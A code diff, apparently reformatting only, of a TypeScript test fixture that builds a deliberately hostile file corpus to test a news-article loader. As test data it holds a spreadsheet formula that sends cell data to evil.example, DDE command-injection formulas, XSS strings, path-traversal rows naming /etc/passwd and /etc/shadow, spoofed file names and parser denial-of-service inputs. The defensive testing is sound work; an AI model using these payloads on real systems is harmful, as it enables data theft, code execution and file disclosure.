@@ -40,14 +40,23 @@ export interface HostileOptions {
 
 /** Outlet and id strings a spreadsheet or a file system would misread. */
 export const HOSTILE_OUTLET = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-export const HOSTILE_OUTLETS = [HOSTILE_OUTLET, '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '../../escape', '<img src=x onerror=alert(1)>'];
+export const HOSTILE_OUTLETS = [
+  HOSTILE_OUTLET,
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '../../escape',
+  '<img src=x onerror=alert(1)>',
+];
 
 const BODY = (n: number | string) =>
   `The Iraqi delegation led by Hamid al-Shatri arrived in Damascus on Thursday, report ${n} said.\n\n` +
   `Officials discussed border security, detainees and trade with the new administration in Syria.\n`;
 
-const ARABIC = 'وصل وفد عراقي رفيع المستوى برئاسة رئيس جهاز المخابرات حميد الشطري إلى دمشق يوم الخميس للقاء الإدارة السورية الجديدة.\n\nوقال مصدر حكومي إن الزيارة تهدف إلى تأكيد موقف العراق من عدم التدخل في الشؤون الداخلية لسوريا.\n';
-const LATIN1 = 'Le délégué irakien est arrivé à Damas jeudi. Les négociations ont porté sur la sécurité à la frontière, a déclaré un responsable.\n\nLa réunion a duré deux heures.\n';
+const ARABIC =
+  'وصل وفد عراقي رفيع المستوى برئاسة رئيس جهاز المخابرات حميد الشطري إلى دمشق يوم الخميس للقاء الإدارة السورية الجديدة.\n\nوقال مصدر حكومي إن الزيارة تهدف إلى تأكيد موقف العراق من عدم التدخل في الشؤون الداخلية لسوريا.\n';
+const LATIN1 =
+  'Le délégué irakien est arrivé à Damas jeudi. Les négociations ont porté sur la sécurité à la frontière, a déclaré un responsable.\n\nLa réunion a duré deux heures.\n';
 
 /** A long article of paragraphs, about `bytes` long; every paragraph differs (numbered). */
 export function bigArticle(bytes: number): string {
@@ -89,41 +98,122 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
 
   // bytes that are not text
   put('zero-bytes.txt', '', /^empty file \(0 bytes\)$/, 'zero-byte file');
-  put('whitespace.txt', ' \n\t\u200B\u200F\n', /^empty file \(whitespace only\)$/, 'only whitespace and invisible marks');
-  put('binary.txt', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3e, 0]), /^binary file/, 'an ELF header named .txt');
-  put('photo.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]), /^unsupported file type \.jpg$/, 'an image');
+  put(
+    'whitespace.txt',
+    ' \n\t\u200B\u200F\n',
+    /^empty file \(whitespace only\)$/,
+    'only whitespace and invisible marks',
+  );
+  put(
+    'binary.txt',
+    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0x3e, 0]),
+    /^binary file/,
+    'an ELF header named .txt',
+  );
+  put(
+    'photo.jpg',
+    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]),
+    /^unsupported file type \.jpg$/,
+    'an image',
+  );
   put('README', 'no extension at all\n', /^unsupported file type \(no extension\)$/, 'no extension');
-  put('invalid-utf8.txt', Buffer.from([0x41, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe, 0xfd, 0x80, 0x0a]), /^undecodable: /, 'invalid UTF-8 that no legacy code page explains');
-  put('utf16-odd.txt', Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42]), /^undecodable: utf-16le with an odd number of bytes$/, 'UTF-16 BOM, odd byte count');
+  put(
+    'invalid-utf8.txt',
+    Buffer.from([0x41, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0xff, 0xfe, 0xfd, 0x80, 0x0a]),
+    /^undecodable: /,
+    'invalid UTF-8 that no legacy code page explains',
+  );
+  put(
+    'utf16-odd.txt',
+    Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42]),
+    /^undecodable: utf-16le with an odd number of bytes$/,
+    'UTF-16 BOM, odd byte count',
+  );
   put('utf32.txt', Buffer.from([0xff, 0xfe, 0, 0, 0x41, 0, 0, 0]), /^undecodable: UTF-32 is not supported$/, 'UTF-32');
   put('no-comments.txt', 'No comments:\n\nPost a Comment\n', /^no text left after cleaning/, 'only a comment widget');
-  put('scripts-only.html', '<html><head><script>alert(1)</script></head><body><nav>Home</nav></body></html>', /^no article text in HTML$/, 'HTML with no article text');
-  put('nested-deep.html', '<html><body>' + '<div>'.repeat(20_001) + '<p>Deep text.</p>' + '</div>'.repeat(20_001) + '</body></html>', /^HTML nested too deeply \(20003 levels; limit 10000\)$/, 'HTML nested 20,001 levels deep (the HTML parser is quadratic in depth)');
-  put('tag-soup.html', '<html><body><p>Officials said the talks went well.' + '<a'.repeat(200_000) + '</body></html>', 'loaded', '200,000 unclosed "<a" without ">"');
+  put(
+    'scripts-only.html',
+    '<html><head><script>alert(1)</script></head><body><nav>Home</nav></body></html>',
+    /^no article text in HTML$/,
+    'HTML with no article text',
+  );
+  put(
+    'nested-deep.html',
+    '<html><body>' + '<div>'.repeat(20_001) + '<p>Deep text.</p>' + '</div>'.repeat(20_001) + '</body></html>',
+    /^HTML nested too deeply \(20003 levels; limit 10000\)$/,
+    'HTML nested 20,001 levels deep (the HTML parser is quadratic in depth)',
+  );
+  put(
+    'tag-soup.html',
+    '<html><body><p>Officials said the talks went well.' + '<a'.repeat(200_000) + '</body></html>',
+    'loaded',
+    '200,000 unclosed "<a" without ">"',
+  );
   put('malformed.json', '{"id": "m", "text": "unclosed', /^malformed JSON/, 'malformed JSON file');
   put('bad.csv', 'id,text\nq1,"an unclosed quote\n', /^malformed CSV/, 'malformed CSV records file');
 
   // text in other encodings
-  put('utf16le.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(BODY('utf16le'), 'utf16le')]), 'loaded', 'UTF-16LE with BOM');
-  put('utf16be.txt', Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(BODY('utf16be'), 'utf16-be')]), 'loaded', 'UTF-16BE with BOM');
+  put(
+    'utf16le.txt',
+    Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(BODY('utf16le'), 'utf16le')]),
+    'loaded',
+    'UTF-16LE with BOM',
+  );
+  put(
+    'utf16be.txt',
+    Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(BODY('utf16be'), 'utf16-be')]),
+    'loaded',
+    'UTF-16BE with BOM',
+  );
   put('windows-1256.txt', iconv.encode(ARABIC, 'windows-1256'), 'loaded', 'Arabic in Windows-1256');
   put('latin1.txt', iconv.encode(LATIN1, 'latin1'), 'loaded', 'French in Latin-1');
   put('arabic-only.txt', ARABIC, 'loaded', 'only Arabic');
   put('emoji-only.txt', '😀🎉🔥👨‍👩‍👧‍👦🇮🇶 🙏🏽✨\n\n💥💥💥\n', 'loaded', 'only emoji');
-  put('rtl-zwj-names.txt',
+  put(
+    'rtl-zwj-names.txt',
     'Hamid al-\u200DShatri met Ahmed al-\u200FSharaa in Damascus. \u202Bحميد الشطري\u202C spoke to \u200EKurdistan24\u200E reporters.\n\n' +
-    'Mohammed Shia\u200C al-Sudani said the border with Syria is secure. Hamid al-Shatri agreed.\n', 'loaded', 'RLM, LRM, ZWJ, ZWNJ and embeddings inside names');
-  put('control-chars.txt', `Text with a bell \u0007 and escape \u001b[31m colour codes and a form feed \f inside.\n`, 'loaded', 'C0 control characters inside text');
+      'Mohammed Shia\u200C al-Sudani said the border with Syria is secure. Hamid al-Shatri agreed.\n',
+    'loaded',
+    'RLM, LRM, ZWJ, ZWNJ and embeddings inside names',
+  );
+  put(
+    'control-chars.txt',
+    `Text with a bell \u0007 and escape \u001b[31m colour codes and a form feed \f inside.\n`,
+    'loaded',
+    'C0 control characters inside text',
+  );
 
   // size
-  if (bigBytes > 0) put('big/article-20mb.txt', bigArticle(bigBytes), 'loaded', `a ${(bigBytes / 1048576).toFixed(0)} MB article`);
-  if (lineBytes > 0) put('one-long-line.txt', 'Officials said the talks went well (Photo: x) and '.repeat(Math.ceil(lineBytes / 50)).slice(0, lineBytes), 'loaded', 'a 1 MB line with no newline');
+  if (bigBytes > 0)
+    put('big/article-20mb.txt', bigArticle(bigBytes), 'loaded', `a ${(bigBytes / 1048576).toFixed(0)} MB article`);
+  if (lineBytes > 0)
+    put(
+      'one-long-line.txt',
+      'Officials said the talks went well (Photo: x) and '.repeat(Math.ceil(lineBytes / 50)).slice(0, lineBytes),
+      'loaded',
+      'a 1 MB line with no newline',
+    );
   // 200,000 characters of dotted initials with no space: one token; a backtracking regex over it is quadratic
-  put('dotted-run.txt', `Officials from the U.S. said: ${'U.S.'.repeat(50_000)} and left.\n`, 'loaded', 'a 200 KB run of "U.S." with no space');
-  put('base64-blob.txt', `An image was embedded here: data:image/png;base64,${Buffer.from(bigArticle(150_000)).toString('base64')} end.\n`, 'loaded', 'a 200 KB base64 blob inside an article');
+  put(
+    'dotted-run.txt',
+    `Officials from the U.S. said: ${'U.S.'.repeat(50_000)} and left.\n`,
+    'loaded',
+    'a 200 KB run of "U.S." with no space',
+  );
+  put(
+    'base64-blob.txt',
+    `An image was embedded here: data:image/png;base64,${Buffer.from(bigArticle(150_000)).toString('base64')} end.\n`,
+    'loaded',
+    'a 200 KB base64 blob inside an article',
+  );
   for (let i = 0; i < tinyFiles; i++) {
     const id = String(i).padStart(5, '0');
-    put(`tiny/${id.slice(0, 3)}/t${id}.txt`, `Note ${i}: ${i % 7 === 0 ? 'Baghdad' : 'Erbil'} calm.\n`, 'loaded', 'one of thousands of tiny files');
+    put(
+      `tiny/${id.slice(0, 3)}/t${id}.txt`,
+      `Note ${i}: ${i % 7 === 0 ? 'Baghdad' : 'Erbil'} calm.\n`,
+      'loaded',
+      'one of thousands of tiny files',
+    );
   }
 
   // folders and links
@@ -145,7 +235,9 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
   try {
     execFileSync('mkfifo', [join(root, 'fifo.txt')]);
     expect('fifo.txt', /^not a regular file$/, 'a FIFO (reading it would block forever)');
-  } catch { /* no mkfifo: case absent */ }
+  } catch {
+    /* no mkfifo: case absent */
+  }
   mkdirSync(join(root, 'looks-like-a-file.txt'));
   put('looks-like-a-file.txt/inner.txt', BODY('inner'), 'loaded', 'inside a folder named like a file');
   put('.hidden.txt', BODY('hidden'), null, 'hidden: not an input');
@@ -160,15 +252,25 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
 
   // identity and names
   // same name in two folders: two ids (dup-a/story, dup-b/story); same path and stem: one id, a true duplicate
-  put('dup-a/story.txt', BODY('dup-a'), /^duplicate id "dup-a\/story" \(already loaded from dup-a\/story\.text\)$/,
-    'second file with id "dup-a/story"');
+  put(
+    'dup-a/story.txt',
+    BODY('dup-a'),
+    /^duplicate id "dup-a\/story" \(already loaded from dup-a\/story\.text\)$/,
+    'second file with id "dup-a/story"',
+  );
   put('dup-b/story.txt', BODY('dup-b'), 'loaded', 'story.txt in another folder: its own id');
   put('dup-a/story.text', BODY('dup-a-text'), 'loaded', 'first of two files with id "dup-a/story"');
   // sorted walk: story.text comes before story.txt, so story.txt is the second one
 
-  put('=cmd\'calc\'.txt', BODY('formula name'), 'loaded', 'a file name that is a spreadsheet formula');
-  put('name with\nnewline and \u202Eevil.txt', BODY('newline name'), 'loaded', 'a file name with a newline and a right-to-left override');
-  for (const key of ['constructor', '__proto__', 'hasOwnProperty']) put(`keys/${key}.txt`, BODY(key), 'loaded', 'an id that is a JavaScript object key');
+  put("=cmd'calc'.txt", BODY('formula name'), 'loaded', 'a file name that is a spreadsheet formula');
+  put(
+    'name with\nnewline and \u202Eevil.txt',
+    BODY('newline name'),
+    'loaded',
+    'a file name with a newline and a right-to-left override',
+  );
+  for (const key of ['constructor', '__proto__', 'hasOwnProperty'])
+    put(`keys/${key}.txt`, BODY(key), 'loaded', 'an id that is a JavaScript object key');
 
   // records
   const jl = [
@@ -177,7 +279,12 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
     '',
     JSON.stringify({ id: '../../escape', outlet: '../../escape', text: BODY('path id') }),
     JSON.stringify({ id: 'j-formula', outlet: HOSTILE_OUTLET, title: '=1+2', text: BODY('formula outlet') }),
-    JSON.stringify({ id: 'j-html', outlet: '<img src=x onerror=alert(1)>', title: '<script>alert(1)</script>', text: BODY('html outlet') }),
+    JSON.stringify({
+      id: 'j-html',
+      outlet: '<img src=x onerror=alert(1)>',
+      title: '<script>alert(1)</script>',
+      text: BODY('html outlet'),
+    }),
     JSON.stringify({ id: 'j-notext', title: 'no text' }),
     JSON.stringify(['an', 'array']),
     JSON.stringify({ id: 'j-numtext', text: 42 }),
@@ -185,7 +292,11 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
   ];
   put('records.jsonl', jl.join('\n'), null, 'JSON Lines');
   expect('records.jsonl#1', 'loaded', 'good record');
-  expect('records.jsonl#2', /^duplicate id "j-ok" \(already loaded from records\.jsonl record 1\)$/, 'duplicate record id');
+  expect(
+    'records.jsonl#2',
+    /^duplicate id "j-ok" \(already loaded from records\.jsonl record 1\)$/,
+    'duplicate record id',
+  );
   expect('records.jsonl#4', 'loaded', 'record with id ../../escape');
   expect('records.jsonl#5', 'loaded', 'record with a formula outlet');
   expect('records.jsonl#6', 'loaded', 'record with HTML in outlet and title');
@@ -193,12 +304,21 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
   expect('records.jsonl#8', /^record 8: not an object$/, 'array instead of object');
   expect('records.jsonl#9', /^record 9: field "text" is not a string$/, 'numeric text');
   expect('records.jsonl#10', /^malformed record at line 10 \(truncated last line\)/, 'truncated last line');
-  put('records.csv',
+  put(
+    'records.csv',
     'id,outlet,title,text,extra\n' +
-    'c-1,"Outlet, with comma","Title with ""quotes"", commas","First paragraph, with a comma.\n\nSecond paragraph\nafter a quoted newline.",x\n' +
-    'c-2,' + '"' + HOSTILE_OUTLETS[1].replace(/"/g, '""') + '",Short,"' + BODY('csv formula').replace(/"/g, '""') + '",\n' +
-    'c-3,Too,Few\n' +
-    'c-4,Outlet,Empty text,,\n', null, 'CSV records');
+      'c-1,"Outlet, with comma","Title with ""quotes"", commas","First paragraph, with a comma.\n\nSecond paragraph\nafter a quoted newline.",x\n' +
+      'c-2,' +
+      '"' +
+      HOSTILE_OUTLETS[1].replace(/"/g, '""') +
+      '",Short,"' +
+      BODY('csv formula').replace(/"/g, '""') +
+      '",\n' +
+      'c-3,Too,Few\n' +
+      'c-4,Outlet,Empty text,,\n',
+    null,
+    'CSV records',
+  );
   expect('records.csv#1', 'loaded', 'quoted commas and newlines');
   expect('records.csv#2', 'loaded', 'formula outlet in CSV records');
   expect('records.csv#3', /^record 3: 3 columns, header has 5/, 'missing columns');
@@ -206,33 +326,51 @@ export function makeHostileCorpus(opts: HostileOptions = {}): HostileCorpus {
   put('empty-array.json', '[]', /^no records$/, 'a JSON array with no records');
 
   // the manifest: missing columns, extra columns, quoted commas and newlines, paths leaving the folder
-  put('corpus.csv', [
-    'file,outlet,date,title,unexpected_column',
-    'utf16le.txt,"Outlet, Inc.",2024-12-26,"A title, with a comma\nand a newline",ignored',
-    'latin1.txt,' + '"' + HOSTILE_OUTLET.replace(/"/g, '""') + '"',
-    'windows-1256.txt',
-    '../../etc/passwd,Evil,,,',
-    '/etc/shadow,Evil,,,',
-    'sub/../../outside.txt,,,,',
-    'missing.txt,Ghost,,,',
-    'looks-like-a-file.txt,Folder,,,',
-    'passwd.txt,Evil,,,',
-    'dangling.txt,Ghost,,,',
-    'loop-a.txt,Loop,,,',
-    '.hidden.txt,Hidden,,,',
-    'locked-dir/secret.txt,Locked,,,',
-  ].join('\n') + '\n', null, 'manifest');
-  if (opts.locked) expect('locked-dir/secret.txt', /^manifest row 13: unreadable: permission denied$/, 'manifest row naming a file inside a mode-000 folder');
+  put(
+    'corpus.csv',
+    [
+      'file,outlet,date,title,unexpected_column',
+      'utf16le.txt,"Outlet, Inc.",2024-12-26,"A title, with a comma\nand a newline",ignored',
+      'latin1.txt,' + '"' + HOSTILE_OUTLET.replace(/"/g, '""') + '"',
+      'windows-1256.txt',
+      '../../etc/passwd,Evil,,,',
+      '/etc/shadow,Evil,,,',
+      'sub/../../outside.txt,,,,',
+      'missing.txt,Ghost,,,',
+      'looks-like-a-file.txt,Folder,,,',
+      'passwd.txt,Evil,,,',
+      'dangling.txt,Ghost,,,',
+      'loop-a.txt,Loop,,,',
+      '.hidden.txt,Hidden,,,',
+      'locked-dir/secret.txt,Locked,,,',
+    ].join('\n') + '\n',
+    null,
+    'manifest',
+  );
+  if (opts.locked)
+    expect(
+      'locked-dir/secret.txt',
+      /^manifest row 13: unreadable: permission denied$/,
+      'manifest row naming a file inside a mode-000 folder',
+    );
   // rows naming an input the walk already listed (a symlink leaving the folder, a broken link) add no input
   expect('.hidden.txt', 'loaded', 'a hidden file named by the manifest is loaded');
   expect('../../etc/passwd', /^manifest row 4: path outside the corpus folder$/, 'manifest row ../../etc/passwd');
   expect('/etc/shadow', /^manifest row 5: path outside the corpus folder$/, 'manifest row with an absolute path');
-  expect('sub/../../outside.txt', /^manifest row 6: path outside the corpus folder$/, 'manifest row escaping through a subfolder');
+  expect(
+    'sub/../../outside.txt',
+    /^manifest row 6: path outside the corpus folder$/,
+    'manifest row escaping through a subfolder',
+  );
   expect('missing.txt', /^manifest row 7: file not found$/, 'manifest row naming a missing file');
   expect('looks-like-a-file.txt', /^manifest row 8: not a file$/, 'manifest row naming a folder');
 
   const cleanup = () => {
-    try { chmodSync(join(root, 'locked-dir'), 0o755); } catch { /* absent */ }
+    try {
+      chmodSync(join(root, 'locked-dir'), 0o755);
+    } catch {
+      /* absent */
+    }
     rmSync(root, { recursive: true, force: true });
   };
   return { root, expected, notes, cleanup };
@@ -245,7 +383,8 @@ export function outcomes(c: Pick<Corpus, 'articles' | 'skipped'>): Map<string, '
     if (got.has(key)) throw new Error(`input ${JSON.stringify(key)} listed twice: ${got.get(key)} and ${v}`);
     got.set(key, v);
   };
-  for (const a of c.articles) add(a.provenance.record ? `${a.provenance.file}#${a.provenance.record}` : a.provenance.file, 'loaded');
+  for (const a of c.articles)
+    add(a.provenance.record ? `${a.provenance.file}#${a.provenance.record}` : a.provenance.file, 'loaded');
   for (const s of c.skipped) add(s.record ? `${s.file}#${s.record}` : s.file, s.reason);
   return got;
 }
